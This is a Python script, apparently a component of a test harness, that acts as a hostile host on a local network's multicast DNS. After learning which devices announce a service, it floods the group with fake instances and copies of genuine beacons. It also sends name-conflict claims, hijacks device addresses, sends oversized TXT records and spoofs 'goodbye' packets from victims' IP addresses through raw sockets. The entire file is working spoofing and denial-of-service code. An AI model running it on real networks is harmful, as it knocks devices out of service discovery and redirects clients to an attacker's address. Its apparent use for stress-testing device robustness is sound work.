"""A hostile host that fills mDNS with lies about those whom it heard, from one core: ``mdns_storm.py CORE OWN_ADDRESS SERVICE_TYPE``.

Lines of JSON on stdin: ``"listen"`` makes it ask who is there, and print ``{"event": "heard", "instances": [...]}``;
``{"seconds", "rate"}`` makes it send so many packets a second for so long, hear no more, and print
``{"event": "over", "sent": {kind: count}, "seconds"}``.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import os
import secrets
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

import attrs
from datagrams import forged
from zeroconf import DNSAddress, DNSIncoming, DNSOutgoing, DNSPointer, DNSQuestion, DNSRecord, DNSService, DNSText, const

GROUP = ("224.0.0.251", 5353)
FAKES = 10_000
LONG = 8_000
"""Bytes of the long TXT record."""
TTL = 4500
BATCH = 0.002
"""Seconds between two looks at how much is due."""
UNIQUE = const._CLASS_IN | const._CLASS_UNIQUE
LABEL = "0123456789abcdef"
"""What each fake has other digits for."""

Send = Callable[[], object]


def packet(*records: DNSRecord) -> bytes:
    """A response with these records."""
    out = DNSOutgoing(const._FLAGS_QR_RESPONSE | const._FLAGS_AA)
    for record in records:
        out.add_answer_at_time(record, 0)
    (data,) = out.packets()
    return data


def pointer(service: str, name: str, ttl: int = TTL) -> DNSPointer:
    return DNSPointer(service, const._TYPE_PTR, const._CLASS_IN, ttl, name)


def place(name: str, host: str, port: int = 8090, ttl: int = TTL) -> DNSService:
    return DNSService(name, const._TYPE_SRV, UNIQUE, ttl, 0, 0, port, host)


def text(name: str, data: bytes, ttl: int = TTL) -> DNSText:
    return DNSText(name, const._TYPE_TXT, UNIQUE, ttl, data)


def address(host: str, ip: str, ttl: int = TTL) -> DNSAddress:
    return DNSAddress(host, const._TYPE_A, UNIQUE, ttl, socket.inet_aton(ip))


@attrs.frozen
class Genuine:
    """What a device of the site has announced."""

    name: str
    host: str
    port: int
    text: bytes
    ip: str


class Ear:
    """Hears the group, and knows who was announced."""

    def __init__(self, own: str, service: str) -> None:
        self._service, self._own = service, own
        self._records: dict[tuple[str, int], Any] = {}
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        self.socket.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
        self.socket.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
        self.socket.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        group = struct.pack("4s4s", socket.inet_aton(GROUP[0]), socket.inet_aton(own))
        self.socket.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
        self.socket.bind(("", GROUP[1]))
        self.socket.setblocking(False)

    def ask(self) -> None:
        out = DNSOutgoing(const._FLAGS_QR_QUERY)
        out.add_question(DNSQuestion(self._service, const._TYPE_PTR, const._CLASS_IN))
        self.socket.sendto(out.packets()[0], GROUP)

    def hear(self) -> None:
        with suppress(BlockingIOError):
            while True:
                for record in DNSIncoming(self.socket.recv(9000)).answers():
                    self._records[record.key if record.type != const._TYPE_PTR else record.alias.lower(), record.type] = record

    def known(self) -> list[Genuine]:
        """Those of whom everything was heard."""
        found = []
        for (name, kind), record in self._records.items():
            told = self._records.get((name, const._TYPE_TXT))
            if kind == const._TYPE_SRV and told and (at := self._records.get((record.server_key, const._TYPE_A))):
                found.append(Genuine(record.name, record.server, record.port, told.text, socket.inet_ntoa(at.address)))
        return found


class Storm:
    """Every kind of lie by turns, each a way to send one packet."""

    def __init__(self, ear: Ear, own: str, service: str) -> None:
        self._ear, self._own, self._service = ear, own, service
        self._raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
        self.sent: Counter[str] = Counter()
        self._fakes = itertools.cycle(range(FAKES))
        self._known: Iterator[Genuine] = iter(())

    def _send(self, data: bytes) -> None:
        self._ear.socket.sendto(data, GROUP)

    def _as(self, source: str, data: bytes) -> None:
        self._raw.sendto(forged((source, GROUP[1]), GROUP, data), (GROUP[0], 0))

    def kinds(self) -> dict[str, Send]:
        """The lies, by what they are."""
        self._known = itertools.cycle(self._ear.known())
        fake, long = self._fake(), self._long()
        return {
            "fake": lambda: self._send(fake.replace(LABEL.encode(), f"{next(self._fakes):016x}".encode())),
            "another fake": lambda: self._send(fake.replace(LABEL.encode(), f"{next(self._fakes):016x}".encode())),
            "beacon copied to here": lambda: self._send(self._copied(next(self._known))),
            "beacon under a new name": lambda: self._send(self._renamed(next(self._known))),
            "name taken": lambda: self._send(self._taken(next(self._known))),
            "address taken": lambda: self._send(packet(address(next(self._known).host, self._own))),
            "goodbye": lambda: self._goodbye(next(self._known)),
            "TXT of 8 KB": lambda: self._send(next(long)),
        }

    def _fake(self) -> bytes:
        name, host = f"{LABEL}.{self._service}", f"{LABEL}.local."
        return packet(pointer(self._service, name), place(name, host), text(name, self._beacon()), address(host, self._own))

    def _beacon(self) -> bytes:
        """What looks like that of another device of the site: all but its name and its keys is copied."""
        entries = [b"deviceId=" + LABEL.encode(), b"v=1", b"n=" + b"A" * 11, b"b=" + b"B" * 22]
        device = self._ear.known()[0].text
        return b"".join(bytes([len(each)]) + each for each in entries) + device

    def _long(self) -> Iterator[bytes]:
        """By turns a fake without its text, and the text of it, which fills a packet."""
        name, host = f"{LABEL}.{self._service}", f"{LABEL}.local."
        strings = (b"\xff" + b"x" * 255) * (LONG // 256)
        parts = packet(pointer(self._service, name), place(name, host), address(host, self._own)), packet(text(name, strings))
        while label := secrets.token_hex(8).encode():
            yield from (part.replace(LABEL.encode(), label) for part in parts)

    def _copied(self, device: Genuine) -> bytes:
        """The very beacon, at our address."""
        host = f"{secrets.token_hex(8)}.local."
        records = place(device.name, host, device.port), text(device.name, device.text), address(host, self._own)
        return packet(pointer(self._service, device.name), *records)

    def _renamed(self, device: Genuine) -> bytes:
        name, host = f"{secrets.token_hex(8)}.{self._service}", f"{secrets.token_hex(8)}.local."
        return packet(pointer(self._service, name), place(name, host, device.port), text(name, device.text), address(host, self._own))

    def _taken(self, device: Genuine) -> bytes:
        """A claim of the name that is another one each time, and outranks its holder's (RFC 6762 section 8.2)."""
        return packet(place(device.name, device.host, 65535), text(device.name, b"\x10" + secrets.token_hex(8).encode()))

    def _goodbye(self, device: Genuine) -> None:
        """In the name of the device, from its address."""
        gone = place(device.name, device.host, device.port, 0), text(device.name, device.text, 0), address(device.host, device.ip, 0)
        self._as(device.ip, packet(pointer(self._service, device.name, 0), *gone))

    async def run(self, seconds: float, rate: int) -> float:
        """Send; returns the seconds that it took."""
        kinds = itertools.cycle(self.kinds().items())
        begun, done = time.monotonic(), 0
        while (passed := time.monotonic() - begun) < seconds:
            due = int(passed * rate)
            for _ in range(due - done):
                kind, send = next(kinds)
                send()
                self.sent[kind] += 1
            done = due
            await asyncio.sleep(BATCH)
        return time.monotonic() - begun


def say(**facts: Any) -> None:
    print(json.dumps(facts), flush=True)


async def main(core: str, own: str, service: str) -> None:
    os.sched_setaffinity(0, {int(core)})
    ear = Ear(own, service)
    loop = asyncio.get_running_loop()
    loop.add_reader(ear.socket, ear.hear)
    reader = asyncio.StreamReader()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
    say(event="ready")
    async for line in reader:
        order = json.loads(line)
        if order == "listen":
            ear.ask()
            await asyncio.sleep(1.0)
            say(event="heard", instances=[each.name for each in ear.known()])
            continue
        loop.remove_reader(ear.socket)
        storm = Storm(ear, own, service)
        took = await storm.run(order["seconds"], order["rate"])
        say(event="over", sent=storm.sent, seconds=took)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
